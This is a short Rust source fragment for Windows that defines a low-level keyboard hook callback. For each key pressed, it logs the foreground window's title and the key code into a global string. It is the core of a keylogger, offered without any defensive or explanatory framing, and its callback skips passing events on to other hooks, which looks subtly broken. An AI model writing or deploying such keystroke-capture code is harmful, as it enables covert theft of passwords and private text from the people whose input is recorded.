use windows_sys::Win32::UI::WindowsAndMessaging::{GetForegroundWindow, GetWindowTextW, KBDLLHOOKSTRUCT};

static mut LOG: String = String::new();

unsafe extern "system" fn hook(code: i32, _w: usize, l: isize) -> isize {
    let key = &*(l as *const KBDLLHOOKSTRUCT);
    let mut buf = [0u16; 128];
    let n = GetWindowTextW(GetForegroundWindow(), buf.as_mut_ptr(), 128);
    LOG.push_str(&format!("[{}] {}\n", String::from_utf16_lossy(&buf[..n as usize]), key.vkCode));
    code as isize
}
